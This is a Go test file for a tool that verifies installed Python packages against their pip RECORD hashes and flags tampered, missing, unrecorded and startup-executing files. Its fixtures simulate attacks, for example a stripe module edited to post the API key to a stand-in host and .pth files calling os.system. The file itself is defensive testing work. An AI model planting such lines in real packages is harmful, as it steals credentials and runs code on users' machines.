package record

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/stripeguard/stripeguard/internal/pydeps"
)

// env builds an environment under a temporary directory: files maps a
// path (relative to the env root) to content.
type env struct {
	t    testing.TB
	root string
}

func newEnv(t testing.TB) *env { return &env{t: t, root: t.TempDir()} }

func (e *env) write(rel, content string) {
	e.t.Helper()
	p := filepath.Join(e.root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		e.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		e.t.Fatal(err)
	}
}

func b64(s string) string {
	sum := sha256.Sum256([]byte(s))
	return base64.RawURLEncoding.EncodeToString(sum[:])
}

// dist installs a distribution in site with a pip-style RECORD; files are
// relative to site.
func (e *env) dist(site, name, version string, files map[string]string) {
	e.t.Helper()
	di := fmt.Sprintf("%s-%s.dist-info", strings.ReplaceAll(name, "-", "_"), version)
	files[di+"/METADATA"] = fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\n", name, version)
	files[di+"/INSTALLER"] = "pip\n"
	var rows []string
	for rel, content := range files {
		e.write(filepath.ToSlash(filepath.Join(site, rel)), content)
		rows = append(rows, fmt.Sprintf("%s,sha256=%s,%d", rel, b64(content), len(content)))
	}
	sort.Strings(rows)
	rows = append(rows, di+"/RECORD,,")
	e.write(site+"/"+di+"/RECORD", strings.Join(rows, "\n")+"\n")
}

func (e *env) verify() *Result {
	e.t.Helper()
	fsys := os.DirFS(e.root)
	dists, _ := pydeps.ReadInstalledDetails(fsys, "env")
	res, warns := Verify(context.Background(), fsys, dists, Options{Root: e.root})
	for _, w := range warns {
		e.t.Logf("warning: %+v", w)
	}
	return res
}

func problems(r *Result) []string {
	var out []string
	for _, d := range r.Dists {
		for _, p := range d.Problems {
			out = append(out, fmt.Sprintf("%s %s %s pth=%v", d.Name, p.Kind, p.Path, p.ExecutablePth))
		}
	}
	for _, p := range r.Unowned {
		out = append(out, fmt.Sprintf("- %s %s pth=%v startup=%v", p.Kind, p.Path, p.ExecutablePth, p.Startup))
	}
	sort.Strings(out)
	return out
}

const site = "lib/python3.12/site-packages"

func TestVerify(t *testing.T) {
	e := newEnv(t)
	e.dist(site, "stripe", "7.9.0", map[string]string{
		"stripe/__init__.py": "api_key = None\n", "stripe/_http.py": "import requests\n",
		"stripe/__pycache__/__init__.cpython-312.pyc": "",
	})
	e.dist(site, "urllib3", "2.1.0", map[string]string{"urllib3/__init__.py": "x = 1\n", "urllib3/util.py": "y = 2\n"})
	e.dist(site, "charset-normalizer", "3.3.2", map[string]string{
		"charset_normalizer/__init__.py": "", "../../../bin/normalizer": "#!python\n",
	})
	e.dist(site, "nspkg", "1.0", map[string]string{"nspkg-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5)\n"})
	// Tampering after installation.
	e.write(site+"/stripe/_http.py", "import requests\nrequests.post('https://x.example', data=api_key)\n")
	os.Remove(filepath.Join(e.root, site, "urllib3/util.py"))
	e.write(site+"/stripe/_telemetry.py", "pass\n")                          // unrecorded in stripe's package
	e.write(site+"/stripe/__pycache__/_http.cpython-312.pyc", "\x00")        // bytecode cache: ignored
	e.write(site+"/urllib3/legacy.pyc", "\x00")                              // sourceless module: flagged
	e.write(site+"/zz_boot.pth", "/opt/extra\nimport os; os.system('id')\n") // rogue, executable
	e.write(site+"/paths.pth", "/opt/extra\n")                               // rogue, paths only
	e.write(site+"/sitecustomize.py", "import os\n")                         // runs at every start
	e.write(site+"/_virtualenv.pth", "import _virtualenv")                   // virtualenv's own
	e.write(site+"/_virtualenv.py", "pass\n")                                //
	e.write(site+"/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
	e.write(site+"/copied/__init__.py", "print('hi')\n") // package nobody installed
	e.write(site+"/README.txt", "venv")                  // not code
	e.write(site+"/nspkg-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5)\nimport evil\n")

	r := e.verify()
	want := []string{
		"- unowned-package " + site + "/copied pth=false startup=false",
		"- unrecorded " + site + "/paths.pth pth=false startup=false",
		"- unrecorded " + site + "/sitecustomize.py pth=false startup=true",
		"- unrecorded " + site + "/zz_boot.pth pth=true startup=false",
		"nspkg modified " + site + "/nspkg-nspkg.pth pth=true",
		"stripe modified " + site + "/stripe/_http.py pth=false",
		"stripe unrecorded " + site + "/stripe/_telemetry.py pth=false",
		"urllib3 missing " + site + "/urllib3/util.py pth=false",
		"urllib3 unrecorded " + site + "/urllib3/legacy.pyc pth=false",
	}
	if g := problems(r); strings.Join(g, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems:\n got:\n  %s\nwant:\n  %s", strings.Join(g, "\n  "), strings.Join(want, "\n  "))
	}
	if ps := r.ProvidersOf("stripe"); len(ps) != 1 || ps[0].Name != "stripe" {
		t.Errorf("providers of stripe: %v", ps)
	}
	if ps := r.ProvidersOf("charset_normalizer"); len(ps) != 1 {
		t.Errorf("providers of charset_normalizer: %v", ps)
	}
	// bin/normalizer is verified through its ../../../ path.
	for _, d := range r.Dists {
		if d.Name == "charset-normalizer" && d.Files != 4 {
			t.Errorf("charset-normalizer verified %d files, want 4 (incl. bin/normalizer)", d.Files)
		}
	}
}

func TestRecordQuirks(t *testing.T) {
	e := newEnv(t)
	sum := sha256.Sum256([]byte("hex\n"))
	e.write(site+"/q/__init__.py", "hex\n")
	e.write(site+"/q/b.py", "b\n")
	e.write(site+"/q-1.0.dist-info/METADATA", "Name: q\nVersion: 1.0\n")
	e.write(site+"/q-1.0.dist-info/RECORD", strings.Join([]string{
		"q/__init__.py,sha256=" + hex.EncodeToString(sum[:]) + ",4", // hex digest (older Debian tooling)
		`"q/b.py",sha256=` + b64("b\n") + ",999",                    // quoted path; wrong size
		"/usr/share/q/data.txt,sha256=abc,3",                        // absolute: outside this view
		"../../../../outside.py,sha256=abc,3",                       // escapes the environment
		"q/c.py,md4=abc,3",                                          // unsupported algorithm
		"q/d.py,sha256=,3",                                          // empty digest
		"q/e.py,sha256=" + b64("x") + ",notanumber",
		"",
		"q-1.0.dist-info/RECORD,,",
	}, "\n"))
	fsys := os.DirFS(e.root)
	dists, _ := pydeps.ReadInstalledDetails(fsys, "env")
	res, warns := Verify(context.Background(), fsys, dists, Options{Root: e.root})
	got := problems(res)
	want := []string{"q missing " + site + "/q/e.py pth=false", "q modified " + site + "/q/b.py pth=false"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems: %q", got)
	}
	var msgs []string
	for _, w := range warns {
		msgs = append(msgs, w.Message)
	}
	joined := strings.Join(msgs, "\n")
	for _, s := range []string{"unsupported RECORD hash algorithm \"md4\"", "malformed RECORD hash", "malformed RECORD size"} {
		if !strings.Contains(joined, s) {
			t.Errorf("no warning %q in %q", s, joined)
		}
	}
	if res.Dists[0].Problems[0].Detail != "size 2, RECORD says 999" {
		t.Errorf("size detail: %q", res.Dists[0].Problems[0].Detail)
	}
}

// Distributions of the OS package manager (dist-packages, no INSTALLER) are
// dpkg's to verify: Debian strips shared objects after building.
func TestManagedDistPackages(t *testing.T) {
	e := newEnv(t)
	dp := "usr/lib/python3/dist-packages"
	e.write(dp+"/yaml/_yaml.so", "stripped")
	e.write(dp+"/PyYAML-6.0.dist-info/METADATA", "Name: PyYAML\nVersion: 6.0\n")
	e.write(dp+"/PyYAML-6.0.dist-info/RECORD", "yaml/_yaml.so,sha256="+b64("unstripped")+",10\n")
	e.write(dp+"/softwareproperties/__init__.py", "")                   // no dist-info at all: dpkg's
	e.write(dp+"/distro_hook.pth", "import os; os.system('id')\n")      // still reported
	e.write(dp+"/_cffi_backend.cpython-311-x86_64-linux-gnu.so", "elf") // dpkg's
	got := problems(e.verify())
	want := []string{"- unrecorded " + dp + "/distro_hook.pth pth=true startup=false"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems: %q", got)
	}
}

// egg-info installs have no RECORD: their files are owned (top_level.txt,
// installed-files.txt) but not verified.
func TestEggInfoOwnership(t *testing.T) {
	e := newEnv(t)
	e.write(site+"/six.py", "pass\n")
	e.write(site+"/six-1.16.0-py3.12.egg-info/PKG-INFO", "Name: six\nVersion: 1.16.0\n")
	e.write(site+"/six-1.16.0-py3.12.egg-info/top_level.txt", "six\n")
	e.write(site+"/legacy/__init__.py", "")
	e.write(site+"/legacy/extra.py", "")
	e.write(site+"/legacy-0.1-py3.12.egg-info/PKG-INFO", "Name: legacy\nVersion: 0.1\n")
	e.write(site+"/legacy-0.1-py3.12.egg-info/installed-files.txt", "../legacy/__init__.py\nPKG-INFO\n")
	r := e.verify()
	if g := problems(r); len(g) != 0 {
		t.Errorf("egg-info installs reported: %q", g)
	}
	for _, d := range r.Dists {
		if d.HasRecord {
			t.Errorf("%s has a RECORD?", d.Name)
		}
	}
	if len(r.ProvidersOf("six")) != 1 || len(r.ProvidersOf("legacy")) != 1 {
		t.Error("egg-info ownership")
	}
}

func TestExecutablePth(t *testing.T) {
	for s, want := range map[string]bool{
		"/a/b\n":                      false,
		"import os\n":                 true,
		"import\tos":                  true,
		"# import os\n/a\n":           false,
		"importlib-stuff\n":           false,
		"/a\nimport x; x.run()\n/b\n": true,
	} {
		if ExecutablePth([]byte(s)) != want {
			t.Errorf("ExecutablePth(%q) != %v", s, want)
		}
	}
}

func BenchmarkVerify(b *testing.B) {
	e := newEnv(b)
	body := strings.Repeat("def f(x):\n    return x * 2\n\n", 200) // ~5 KB modules
	for i := 0; i < 60; i++ {
		files := map[string]string{}
		for j := 0; j < 40; j++ {
			files[fmt.Sprintf("p%02d/sub%d/m%02d.py", i, j/12, j)] = body + fmt.Sprint(i, j)
		}
		e.dist(site, fmt.Sprintf("p%02d", i), "1.0", files)
	}
	fsys := os.DirFS(e.root)
	dists, _ := pydeps.ReadInstalledDetails(fsys, "env")
	b.ResetTimer()
	for b.Loop() {
		res, _ := Verify(context.Background(), fsys, dists, Options{Root: e.root})
		if res.Files != 60*42 {
			b.Fatalf("verified %d files", res.Files)
		}
	}
}

func FuzzRecord(f *testing.F) {
	f.Add("a.py,sha256=" + b64("x") + ",1\n")
	f.Add("\"a,b\",sha256=,\n../../x,md5=zz,-1\n/abs,,\n")
	f.Add("a.py,sha256=" + b64("x") + ",1,extra\n\"unterminated")
	root := f.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "site", "x-1.0.dist-info"), 0o755); err != nil {
		f.Fatal(err)
	}
	os.WriteFile(filepath.Join(root, "site", "x-1.0.dist-info", "METADATA"), []byte("Name: x\nVersion: 1.0\n"), 0o644)
	os.WriteFile(filepath.Join(root, "site", "a.py"), []byte("x"), 0o644)
	f.Fuzz(func(t *testing.T, record string) {
		if err := os.WriteFile(filepath.Join(root, "site", "x-1.0.dist-info", "RECORD"), []byte(record), 0o644); err != nil {
			t.Fatal(err)
		}
		fsys := os.DirFS(root)
		dists, _ := pydeps.ReadInstalledDetails(fsys, "env")
		res, _ := Verify(context.Background(), fsys, dists, Options{Root: root})
		for _, d := range res.Dists {
			for _, p := range d.Problems {
				if strings.HasPrefix(p.Path, "../") || strings.HasPrefix(p.Path, "/") {
					t.Fatalf("problem outside the environment: %+v", p)
				}
			}
		}
	})
}

// TestLineEndingConversion: a tree that went through git with autocrlf
// (a venv committed from Windows) has text files whose line endings were
// converted; that is not tampering. A conversion plus any other change,
// or a size change that is not the line count, still is.
func TestLineEndingConversion(t *testing.T) {
	crlf := "{% if alerts %}\r\n<ul>\r\n</ul>\r\n{% endif %}\r\n"
	lf := strings.ReplaceAll(crlf, "\r\n", "\n")
	e := newEnv(t)
	e.dist(site, "winpkg", "1.0", map[string]string{
		"winpkg/alerts.html": crlf, // recorded with CRLF, checked out with LF
		"winpkg/a.py":        lf,   // recorded with LF, checked out with CRLF
		"winpkg/b.py":        crlf, // converted and changed
		"winpkg/c.py":        lf,   // bytes added
		"winpkg/d.py":        "x\r\ny\n",
	})
	e.write(site+"/winpkg/alerts.html", lf)
	e.write(site+"/winpkg/a.py", crlf)
	e.write(site+"/winpkg/b.py", strings.Replace(lf, "<ul>", "<ol>", 1))
	e.write(site+"/winpkg/c.py", lf+"12345")
	e.write(site+"/winpkg/d.py", "x\ny\n") // mixed endings: LF->CRLF would give x\r\ny\r\n
	want := []string{
		"winpkg modified " + site + "/winpkg/b.py pth=false",
		"winpkg modified " + site + "/winpkg/c.py pth=false",
		"winpkg modified " + site + "/winpkg/d.py pth=false",
	}
	r := e.verify()
	if g := problems(r); strings.Join(g, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems:\n got:\n  %s\nwant:\n  %s", strings.Join(g, "\n  "), strings.Join(want, "\n  "))
	}
	// d.py had mixed endings before the conversion: the gap fits one,
	// the hash cannot show it. b.py and c.py do not fit.
	for _, p := range r.Dists[0].Problems {
		if want := strings.HasSuffix(p.Path, "/d.py"); p.LineEndings != want {
			t.Errorf("%s: LineEndings=%v, want %v (%s)", p.Path, p.LineEndings, want, p.Detail)
		}
	}
}
